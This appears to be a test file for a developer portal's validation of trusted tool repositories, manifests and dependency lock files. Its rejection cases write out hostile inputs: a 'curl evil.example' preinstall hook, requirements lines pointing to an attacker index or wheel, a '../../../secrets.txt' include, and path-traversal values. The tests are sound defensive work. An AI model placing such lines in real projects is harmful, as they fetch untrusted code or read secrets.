import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { listEnvironments } from '@astrolabe/plugin-workloads-node/environments';
import { ConfigReader } from '@backstage/config';
import { describe, expect, it } from 'vitest';
import { repositoryOf } from '../checks/runners/__testUtils__/RunnerBench';
import { LOCK, toolFile } from '../__testUtils__/forges/toolWish';
import { toolOf } from '../publishing/toolOf';
import { Environments } from './Environments';
import { lockProblems } from './locks';
import { missingIn } from './missingIn';
import { readTrusted, trustOf } from './readTrusted';

const commit = '0123456789abcdef0123456789abcdef01234567';
const forge = 'https://forge.example';

const read = (...list: object[]) =>
  readTrusted(
    new ConfigReader({ assets: { trustedRepositories: list } } as never),
  );

describe('what an operator trusts', () => {
  it.each([
    [{ forge, commit }, /needs either 'id' or 'repository'/],
    [{ forge, id: 7, repository: 'a/b', commit }, /'id' or 'repository'/],
    [{ forge, id: 7 }, /needs either 'commit' or 'branch'/],
    [{ forge, id: 7, commit, branch: 'main' }, /'commit' or 'branch'/],
    [{ forge, id: 7, commit: commit.slice(0, 10) }, /all 40 \(or 64\) digits/],
    [{ forge, id: 7, commit: 'main' }, /all 40/],
    [{ forge, repository: 'a/b', branch: 'main' }, /needs the 'id'/],
    [{ forge, repository: '../b', commit: 'x' }, /./],
    [{ forge: 'forge.example', id: 7, commit }, /address of its pages/],
  ])('is refused as %j', (wrong, why) => {
    expect(() => read(wrong)).toThrow(why);
  });

  it('is one repository, by its id or its name, at one forge', () => {
    const its = { forge, forgeId: '7', owner: 'Ada', repository: 'Shelf' };
    const named = read({ forge: `${forge}/`, repository: 'ada/shelf', commit });
    const known = read({ forge, id: 7, branch: 'main' });
    expect(trustOf(named, its)).toEqual({ commit });
    expect(trustOf(known, its)).toEqual({ branch: 'main' });
    for (const other of [
      { forge: 'https://forge.example.org' },
      { forgeId: '70', repository: 'shelf2' },
    ]) {
      expect(trustOf(named, { ...its, ...other })).toBeUndefined();
      expect(trustOf(known, { ...its, ...other })).toBeUndefined();
    }
    expect(() =>
      read({ forge, id: 7, commit }, { forge, id: 7, branch: 'main' }),
    ).toThrow('a second time');
  });
});

const task = (more: object = {}) => ({
  ...{ name: 'tool', environment: { kind: 'python', id: 'tools/shelf' } },
  ...more,
});
const digest = `sha256:${'0'.repeat(64)}`;

describe('what a tool lacks that the operator has agreed to', () => {
  const lacks = (
    workload: object,
    files: Record<string, string> = { 'requirements.txt': LOCK },
  ) => missingIn({ manifest: { workload } }, { name: 'shelf', files });
  const tasks = (more: object) => lacks({ tasks: [task(more)] });

  it('is nothing where it brings all that it runs', () => {
    expect(lacks({ tasks: [task()], lifetime: {}, endpoints: [] })).toEqual([]);
    const image = `registry.example/shelf@${digest}`;
    const alone = { environment: undefined, image };
    expect(lacks({ tasks: [task(alone)] }, {})).toEqual([]);
  });

  it.each([
    [{ image: 'registry.example/shelf:latest' }, /without its digest/],
    // eslint-disable-next-line no-template-curly-in-string
    [{ image: `\${{ form.image }}@${digest}` }, /without its digest/],
    [{ environment: undefined }, /neither an environment nor an image/],
    [{ environment: { kind: 'python', id: 'tools/other' } }, /its own/],
    [{ environment: { kind: 'python', id: 'side-tasks/storage' } }, /its own/],
    // eslint-disable-next-line no-template-curly-in-string
    [{ environment: '${{ form.environment }}' }, /its own/],
  ])('is said of a task with %j', (more, why) => {
    expect(tasks(more).join()).toMatch(why);
  });

  it.each(['my_tool', 'tool.v2'])(
    'is said of the name %s, which no environment can have',
    name => {
      const environment = { kind: 'python', id: `tools/${name}` };
      const manifest = { workload: { tasks: [task({ environment })] } };
      const files = { 'requirements.txt': LOCK };
      const found = missingIn({ manifest }, { name, files });
      expect(found).toEqual([expect.stringMatching(/rename its repository/)]);
    },
  );

  it('is said of its variants, too, and of what is not for it to say', () => {
    const variants = { try: { workload: { tasks: [task({ image: 'a:b' })] } } };
    const manifest = { workload: { tasks: [task()] }, variants };
    const files = { 'requirements.txt': LOCK };
    const found = missingIn({ manifest }, { name: 'shelf', files });
    expect(found.join()).toMatch('without its digest');
    expect(lacks({ tasks: [task()], snapshot: {} }).join()).toMatch(
      "'snapshot'",
    );
    // eslint-disable-next-line no-template-curly-in-string
    expect(lacks({ tasks: '${{ form.tasks }}' }).join()).toMatch('written out');
    const shared = missingIn({ manifest: 'deepaas' }, { name: 'a', files: {} });
    expect(shared.join()).toMatch('no manifest of its own');
  });

  it.each([
    ['flask', /flask/],
    ['flask==3.0', /flask==3.0/],
    [`--index-url https://evil.example\n${LOCK}`, /--index-url/],
    [`-r ../../../secrets.txt\n${LOCK}`, /-r /],
    [`-e ../../somewhere --hash=${digest}`, /-e /],
    [`flask @ https://evil.example/a.whl --hash=${digest}`, /flask @/],
    [`./flask==3 --hash=${digest}`, /flask/],
    [`flask==3 --hash=md5:00`, /md5/],
    [
      `flask==3 ; python_version > '3' --config-settings=a --hash=${digest}`,
      /config/,
    ],
    [`flask==3 \\\n  --hash=${digest} \\\n  --global-option=x`, /flask/],
    [`# a \\\n--index-url https://evil.example\n${LOCK}`, /# a/],
    [`# a\r--index-url https://evil.example\n${LOCK}`, /index/],
    [`# a\u2028--index-url https://evil.example\n${LOCK}`, /# a/],
  ])('is said of the lock %j', (lock, why) => {
    const found = lacks({ tasks: [task()] }, { 'requirements.txt': lock });
    expect(found.join()).toMatch(/each line has to be name==version/);
    expect(found.join()).toMatch(why);
  });

  it.each([
    [{ packages: { '': {}, a: { link: true, integrity: 'sha512-a' } } }, {}],
    [{ packages: { a: { version: '1' } } }, {}],
    [{ packages: { a: { version: '1', inBundle: true } } }, {}],
    [
      {
        packages: {
          a: { integrity: 'sha512-a', bundleDependencies: ['b'] },
          'a/node_modules/b': { version: '1', inBundle: true },
        },
      },
      {},
    ],
    [
      {
        packages: { a: { resolved: 'https://x/a.tgz', integrity: 'sha512-a' } },
      },
      {},
    ],
    [{ packages: { a: { integrity: 'sha1-a' } } }, {}],
    [{}, {}],
    [{ packages: {} }, { scripts: { preinstall: 'curl evil.example' } }],
  ])('is said of the packages of Node %j', (lock, project) => {
    const files = {
      'package-lock.json': JSON.stringify(lock),
      'package.json': JSON.stringify(project),
    };
    const environment = { kind: 'node', id: 'tools/shelf' };
    const found = lacks({ tasks: [task({ environment })] }, files);
    expect(found).toHaveLength(1);
  });

  it('is nothing of the locks that come with the portal', async () => {
    const root = path.resolve(__dirname, '../../../../catalog-info');
    const found = listEnvironments([root]).filter(({ id }) =>
      id.startsWith('tools/'),
    );
    expect(found.length).toBeGreaterThan(5);
    for (const { kind, id } of found) {
      const folder = path.join(root, id, 'environment');
      const names = (await readdir(folder)).filter(
        name => name !== 'environment.json',
      );
      const texts = names.map(async name => [
        name,
        await readFile(path.join(folder, name), 'utf8'),
      ]);
      const files = Object.fromEntries(await Promise.all(texts));
      // It needs npm, which brings a bundle: the operator's own may.
      const bundle = id === 'tools/node-red' ? [/bundle/] : [];
      expect([id, lockProblems[kind](files)]).toEqual([
        ...[id, bundle.map(text => expect.stringMatching(text))],
      ]);
    }
  });

  it('is said of a description that reaches out of its repository', () => {
    const say = (description: string) =>
      lacks(
        { tasks: [task()] },
        { 'requirements.txt': LOCK, 'environment.json': description },
      );
    expect(say('{"python": "3.11"}')).toEqual([]);
    for (const wrong of ['{"localPackages": ["../../.."]}', '[', '[]']) {
      expect(say(wrong)).toHaveLength(1);
    }
  });
});

it('What is stored of another commit than the operator has named never runs', () => {
  const row = repositoryOf({
    ...{ kind: 'tool', name: 'shelf', readCommit: commit, tip: commit },
    content: toolFile('shelf'),
  });
  const other = { commit: commit.replace('0', 'f') };
  const { trust, leavesOut, runs } = toolOf(row, other);
  expect([trust?.state, runs]).toEqual(['unready', undefined]);
  expect(leavesOut).toContain('manifest');
  expect(trust?.missing?.join()).toContain('was not read yet');
  // What is just put in is of no commit that anybody knows.
  const fresh = repositoryOf({ ...row, readCommit: '' });
  expect(toolOf(fresh, { branch: 'main' }).trust?.state).toBe('unready');
});

it('The folder of environments has those that may run, whole, and no others', async () => {
  const root = await mkdtemp(path.join(tmpdir(), 'astrolabe-environments-'));
  const environments = new Environments(root);
  const tool = (name: string, text: string) => ({
    ...{ name, files: { 'requirements.txt': text } },
  });
  await environments.keep([tool('a', 'one'), tool('b', 'b')]);
  await Promise.all([
    environments.keep([tool('a', 'two'), tool('b', 'b')]),
    environments.keep([tool('a', 'two')]),
  ]);
  expect(await readdir(path.join(root, 'tools'))).toEqual(['a']);
  expect(await readdir(root)).toEqual(['tools']);
  const file = path.join(root, 'tools/a/environment/requirements.txt');
  expect(await readFile(file, 'utf8')).toBe('two');
  await environments.keep([]);
  expect(await readdir(path.join(root, 'tools'))).toEqual([]);
  await rm(root, { recursive: true });
});
